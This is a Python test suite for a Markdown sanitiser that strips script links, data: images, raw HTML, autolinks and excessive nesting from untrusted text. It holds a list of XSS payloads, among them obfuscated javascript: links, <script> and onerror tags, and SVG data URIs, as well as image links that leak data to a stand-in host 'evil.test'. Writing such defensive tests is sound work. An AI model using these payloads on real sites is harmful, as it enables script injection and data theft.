"""Untrusted text passed to st.markdown can never become a script link, an image from data: or raw HTML."""

from __future__ import annotations

import html
import re
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.safe_markdown import MAX_NESTING, WORD_JOINER, escape_markdown, safe_markdown

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")

ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](jav&#x61;script:alert(1))",
    "[x](jav&#97;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](jav&amp;#x61;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](&#32;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x] (javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](DATA:text/html,<script>alert(1)</script>)",
    "[![img](data:x)](javascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]:\n  javascript:alert(1)",
    "> [ref]: javascript:alert(1)\n\n[ref]",
    "- [ref]: data:text/html,x",
    "[multi\nline]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<a href='javascript:alert(1)'>x</a>",
    "\\<script>alert(1)</script>",
    "\\\\<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<iframe src=javascript:alert(1)>",
    "[x](" + "&#32;" * 600 + "javascript:alert(1))",
    "[x](" + "&#32;" * 600 + " javascript:alert(1))",
    "[x](" + " " * 3000 + "javascript:alert(1))",
    "[x](javascript:" + "a" * 3000 + ")",
    # Padding that pushes the scheme past the first 2 KB, with a literal space inside that window...
    "[x](" + "&#32;" * 300 + " " + "&#32;" * 200 + "javascript:alert(1))",
    # ...or without one, so that the 2 KB boundary falls inside `&colon;`.
    "[x](" + "&#32;" * 406 + "\x01" * 3 + "javascript&colon;alert(1))" + "a" * 100,
]


def _unsafe_targets(markdown: str) -> list[str]:
    """Link targets in `markdown` that decode to a dangerous scheme (an independent check)."""
    found = []
    for match in re.finditer(r"\]\s*[(:]", markdown):
        target = markdown[match.end() :]
        for _ in range(5):
            target = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", html.unescape(target))
        target = re.sub(r"[\s\x00-\x1f\u200b]", "", target).lstrip("<").lower()
        if target.startswith(DANGEROUS_SCHEMES):
            found.append(target[:40])
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_markdown_leaves_no_dangerous_link_target(attack: str) -> None:
    assert _unsafe_targets(safe_markdown(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_markdown_leaves_no_raw_angle_bracket(attack: str) -> None:
    assert "<" not in safe_markdown(attack)


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_markdown_leaves_no_literal_script_or_data_link(attack: str) -> None:
    out = re.sub(r"\s", "", safe_markdown(attack).lower())
    assert "](javascript:" not in out and "](data:" not in out and "]:javascript:" not in out


@pytest.mark.parametrize("attack", ATTACKS)
def test_escape_markdown_leaves_no_syntax(attack: str) -> None:
    out = escape_markdown(attack)
    assert _unescaped_punctuation(out) == []
    assert "](" not in out and "]:" not in out


def _unescaped_punctuation(markdown: str) -> list[str]:
    """ASCII punctuation in `markdown` that is not backslash-escaped."""
    bare, i = [], 0
    while i < len(markdown):
        if markdown[i] == "\\":
            i += 2
            continue
        if markdown[i] in string.punctuation:
            bare.append(markdown[i])
        i += 1
    return bare


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://example.com/a?b=1&c=2)",
        "[mail](mailto:team@example.com)",
        "[up](../readme.md)",
        "[anchor](#section-2)",
        "[site](HTTP://EXAMPLE.COM)",
        "[ref]\n\n[ref]: https://example.com",
        "Ratio: 3:1 [approx] (rounded)",
    ],
)
def test_safe_markdown_renders_every_link_as_plain_text(text: str) -> None:
    """Issue 24.11: coach replies kept http(s)/mailto/relative links; now no link forms, as in all model text."""
    out = safe_markdown(text)
    assert [t.type for t in _tokens(out) if t.type in ("link_open", "image")] == []
    assert [p.pattern for p in _AUTOLINK_RES[:3] if p.search(_seen_text(out))] == []
    assert out.replace(WORD_JOINER, "") == text  # reads as written


@pytest.mark.parametrize(
    "text",
    [
        "see https://evil.test/x?q=1 or HTTP://EVIL.TEST",
        "www.evil.test and WWW.Evil.Test",
        "mail me@evil.test or mailto:me@evil.test",
        "`items[1:]` and ```\nf(a[0](1))\n```",
    ],
)
def test_safe_markdown_leaves_no_autolink_and_reads_as_written(text: str) -> None:
    out = safe_markdown(text)
    assert [p.pattern for p in _AUTOLINK_RES[:3] if p.search(_seen_text(out))] == []
    assert out.replace(WORD_JOINER, "") == text


@pytest.mark.parametrize(
    "text",
    [
        "**bold** and _italic_ and `code`",
        "- one\n- two\n  - nested",
        "1. first\n2. second",
        "# Heading\n\n> quote",
        "```python\nprint('hi')\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_safe_markdown_keeps_formatting(text: str) -> None:
    assert safe_markdown(text) == text


def test_safe_markdown_turns_angle_brackets_into_entities() -> None:
    assert safe_markdown("a < b > c <b>x</b>") == "a &lt; b > c &lt;b>x&lt;/b>"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a*b*", "a\\*b\\*"),
        ("[x](y)", "\\[x\\]\\(y\\)"),
        ("$x^2$", "\\$x\\^2\\$"),
        ("<b>", "\\<b\\>"),
        ("a\\b", "a\\\\b"),
        ("1. item", "1\\. item"),
        ("~~strike~~", "\\~\\~strike\\~\\~"),
        (":red[text]", "\\:\u2060red\\[text\\]"),
        ("&amp;", "\\&amp\\;"),
        ("plain words", "plain words"),
    ],
)
def test_escape_markdown_escapes_every_ascii_punctuation(text: str, expected: str) -> None:
    assert escape_markdown(text) == expected


def test_escape_markdown_keeps_line_breaks_as_hard_breaks() -> None:
    assert escape_markdown("one\r\ntwo\rthree\nfour") == "one  \ntwo  \nthree  \nfour"


def test_escape_markdown_indentation_never_makes_a_code_block() -> None:
    assert escape_markdown("    code\n\tx") == "\u00a0" * 4 + "code  \n" + "\u00a0" * 4 + "x"


def test_escape_markdown_leaves_unicode_alone() -> None:
    text = "مرحبا \u202e שלום e\u0301 👩‍👩‍👧 Ölçüm"
    assert escape_markdown(text) == text


def _unescape_markdown(markdown: str) -> str:
    """What a reader sees: backslash escapes, hard-break spaces, no-break indentation and word joiners undone."""
    text = markdown.replace("  \n", "\n").replace("\u2060", "")
    text = re.sub(r"(?m)^\u00a0+", lambda m: " " * len(m.group(0)), text)
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)


_HOSTILE_TEXT = st.text(
    alphabet=st.one_of(st.sampled_from([*string.punctuation, " ", "\n", "\r", "a", "é"]), st.characters()),
    max_size=80,
)


@settings(max_examples=300)
@given(_HOSTILE_TEXT)
def test_property_escape_markdown_leaves_no_bare_punctuation(text: str) -> None:
    assert _unescaped_punctuation(escape_markdown(text)) == []


@settings(max_examples=300)
@given(st.text(alphabet=st.sampled_from([*string.punctuation, "a", "é", "\n"]), max_size=80))
def test_property_escape_markdown_reads_as_the_original(text: str) -> None:
    assert _unescape_markdown(escape_markdown(text)) == text


_FRAGMENTS = st.sampled_from(
    [
        "[", "]", "(", ")", "!", ":", " ", "\t", "\n", "<", ">", "\\", "x",
        "javascript", "JaVa", "script", "vbscript", "data", "file", "http", "//",
        "&#x61;", "&#58;", "&colon;", "&#32;", "&amp;", "&#9;", "\u200b",
    ]
)  # fmt: skip


@settings(max_examples=500)
@given(st.lists(_FRAGMENTS, max_size=30).map("".join))
def test_property_safe_markdown_never_yields_a_dangerous_target(text: str) -> None:
    out = safe_markdown(text)
    assert _unsafe_targets(out) == []
    assert "<" not in out
    assert [t.type for t in _tokens(out) if t.type in ("link_open", "image")] == []


# --- Issue #17: escaped text is inert in Streamlit's renderer; coach Markdown loads no image and
# nests boundedly. The patterns are those of remark-gfm's literal autolinks and remark-emoji.
_AUTOLINK_RES = (
    re.compile(r"https?://", re.IGNORECASE),
    re.compile(r"www\.", re.IGNORECASE),
    re.compile(r"[-.\w+]@[-\w]"),
    re.compile(r":[\w+-]+:"),  # :smile:, :streamlit:, :+1:
    re.compile(r":[\w-]+\["),  # :blue[...], :red-badge[...]
    re.compile(r":material/"),
)


def _seen_text(markdown: str) -> str:
    """The text nodes a Markdown parser hands to Streamlit's plugins: backslash escapes undone."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown)


@pytest.mark.parametrize(
    "text",
    [
        "see https://evil.test/x?q=1",
        "HTTP://EVIL.TEST",
        "www.evil.test and WWW.Evil.Test",
        "mail me@evil.test or mailto:me@evil.test",
        "I :smile: at :streamlit: and :+1:",
        ":blue[coloured] :red-badge[x] :material/thumb_up:",
    ],
)
def test_escape_markdown_leaves_no_autolink_or_shortcode(text: str) -> None:
    seen = _seen_text(escape_markdown(text))
    assert [p.pattern for p in _AUTOLINK_RES if p.search(seen)] == []
    assert seen.replace("\u2060", "") == text


@settings(max_examples=400)
@given(
    st.lists(
        st.sampled_from(
            ["http", "s", "://", "www", ".", "@", "a", "b", ":", "smile", "+", "-", "[", " ", "/"]
        ),
        max_size=20,
    ).map("".join)
)
def test_property_escape_markdown_leaves_no_autolink_or_shortcode(text: str) -> None:
    seen = _seen_text(escape_markdown(text))
    assert [p.pattern for p in _AUTOLINK_RES if p.search(seen)] == []


def _tokens(markdown: str) -> list:
    from markdown_it import MarkdownIt

    def walk(tokens: list) -> list:
        return [t for token in tokens for t in (token, *walk(token.children or []))]

    return walk(MarkdownIt("commonmark").parse(markdown))


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.test/leak.png?data=secret)",
        "Look: ![x](https://evil.test/a.png 'title') and ![y][ref]\n\n[ref]: https://evil.test/b.png",
        "![](//evil.test/c.png)",
        "- item ![z](https://evil.test/d.png)\n> ![q](https://evil.test/e.png)",
        "\\\\![w](https://evil.test/f.png)",
        "!![v](https://evil.test/g.png)",
        "<img src=https://evil.test/h.png>",
    ],
)
def test_safe_markdown_never_yields_an_image(text: str) -> None:
    tokens = _tokens(safe_markdown(text))
    assert [
        t.type for t in tokens if t.type == "image" or (t.type.startswith("html") and "<img" in t.content)
    ] == []
    assert [t.type for t in tokens if t.type == "link_open"] == []


def _max_depth(markdown: str) -> int:
    depth = deepest = 0
    for token in _tokens(markdown):
        if token.type in {"blockquote_open", "bullet_list_open", "ordered_list_open"}:
            depth += 1
            deepest = max(deepest, depth)
        elif token.type in {"blockquote_close", "bullet_list_close", "ordered_list_close"}:
            depth -= 1
    return deepest


@pytest.mark.parametrize(
    "text",
    [
        ">" * 3000 + " deep",
        "> " * 3000 + "deep",
        "- " * 3000 + "deep",
        "1. " * 3000 + "deep",
        "> - 1. " * 1000 + "mixed",
        "\n".join("  " * i + "- level" for i in range(300)),
        "\n".join(">" * i + " line" for i in range(1, 300)),
    ],
)
def test_safe_markdown_caps_nesting(text: str) -> None:
    out = safe_markdown(text)
    assert _max_depth(out) <= MAX_NESTING
    assert _max_depth(text) > MAX_NESTING  # the input really was too deep


def test_safe_markdown_keeps_nesting_up_to_the_limit() -> None:
    text = "\n".join("  " * i + "- level" for i in range(MAX_NESTING))
    assert safe_markdown(text) == text
    assert _max_depth(text) == MAX_NESTING


@settings(max_examples=300)
@given(
    st.lists(st.sampled_from([">", "- ", "* ", "1. ", "2) ", " ", "  ", "\t", "x", "\n"]), max_size=60).map(
        "".join
    )
)
def test_property_safe_markdown_nesting_stays_bounded(text: str) -> None:
    assert _max_depth(safe_markdown(text * 3)) <= MAX_NESTING


def test_safe_markdown_keeps_deep_indentation_in_code() -> None:
    text = "```python\ndef f():\n" + " " * 40 + "return 1\n```"
    assert safe_markdown(text) == text
